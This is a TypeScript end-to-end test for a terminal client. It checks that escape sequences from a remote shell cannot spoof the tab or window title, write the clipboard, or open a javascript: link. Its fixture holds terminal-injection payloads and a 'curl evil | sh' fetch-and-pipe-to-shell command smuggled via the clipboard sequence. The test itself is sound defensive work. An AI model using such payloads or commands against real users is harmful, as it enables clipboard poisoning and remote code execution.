// Terminal escape abuse end to end (#11): a program on the instance prints title-setting (OSC 0/2),
// clipboard-writing (OSC 52) and hyperlink (OSC 8, javascript:) sequences. The tab keeps its
// instance label, the window keeps its title, nothing reaches the clipboard, no dialog or window
// opens — until the user turns "let programs copy to the clipboard" on in Settings, and then only
// the clipboard write takes effect. (The handlers themselves: renderer/src/terminals/escapePolicy.test.ts.)
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signIn, startAppWithEmulator, type AppWithEmulator } from './appWithEmulator';
import { terminalText } from './terminalBuffer';

const DEV = 'i-0c33333333333333a'; // dev-app-1
let env: AppWithEmulator;

// printf's own escapes, so the sequences are produced by the remote shell, not typed as keys.
const HOSTILE = `printf '\\033]2;SPOOFED-TITLE\\007\\033]0;root@prod (999999999999)\\007\\033]52;c;%s\\007\\033]8;;javascript:window.__pwned=1\\007CLICK-ME\\033]8;;\\007\\n' "$(printf 'curl evil | sh' | base64)"; echo round-$((6*7))`;

beforeAll(async () => {
  env = await startAppWithEmulator();
});
afterAll(() => env?.close());

describe('terminal escape sequences from the remote side', () => {
  it('cannot retitle the tab or window, write the clipboard or open a javascript: link; the clipboard setting lets only the write through', async () => {
    const page = env.app.page;
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.context().on('page', () => dialogs.push('a new window opened'));
    // Observe clipboard writes without needing the clipboard permission.
    await page.evaluate(() => {
      const w = window as unknown as { __clip: string[] };
      w.__clip = [];
      Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText: async (t: string) => void w.__clip.push(t), readText: async () => '' } });
    });
    await signIn(env);
    await page.getByTestId('nav-instances').click();
    await page.getByTestId('instances-search').fill('dev-app-1');
    await page.getByTestId(`open-shell-${DEV}`).click();
    await expect.poll(() => terminalText(page, DEV), { timeout: 30_000 }).toMatch(/[$#] ?$/m);
    const tab = page.getByTestId(`tab-${DEV}`);
    const label = await tab.textContent();
    const title = await page.title();
    expect(label).toContain('dev-app-1');

    await page.keyboard.type(`${HOSTILE}\r`);
    await expect.poll(() => terminalText(page, DEV), { timeout: 20_000 }).toContain('round-42');
    expect(await terminalText(page, DEV)).toContain('CLICK-ME');
    expect(await tab.textContent()).toBe(label);
    expect(await page.title()).toBe(title);
    expect(await page.evaluate(() => (window as unknown as { __clip: string[] }).__clip)).toEqual([]);
    // Hover and click the hyperlinked text: nothing runs, nothing opens.
    const box = await page.getByTestId(`terminal-${DEV}`).boundingBox();
    const row = (await terminalText(page, DEV)).split('\n').findIndex((l) => l.startsWith('CLICK-ME'));
    if (box && row >= 0) {
      const lineHeight = (await page.evaluate(() => document.querySelector('.xterm-rows > div')?.getBoundingClientRect().height ?? 17)) || 17;
      await page.mouse.move(box.x + 20, box.y + 4 + lineHeight * (row + 0.5));
      await page.mouse.click(box.x + 20, box.y + 4 + lineHeight * (row + 0.5));
    }
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);

    // Turn the clipboard setting on: the same output now copies its text, and still nothing else.
    await page.getByTestId('nav-settings').click();
    const setting = page.getByLabel(/copy text to the clipboard/);
    await setting.click();
    await expect.poll(() => setting.isChecked()).toBe(true);
    await page.getByTestId('nav-sessions').click();
    await page.getByTestId(`tab-${DEV}`).click();
    await page.keyboard.type(`clear; ${HOSTILE.replace('round-', 'again-')}\r`);
    await expect.poll(() => terminalText(page, DEV), { timeout: 20_000 }).toContain('again-42');
    expect(await page.evaluate(() => (window as unknown as { __clip: string[] }).__clip)).toEqual(['curl evil | sh']);
    expect(await tab.textContent()).toBe(label);
    expect(await page.title()).toBe(title);
    expect(dialogs).toEqual([]);
  });
});
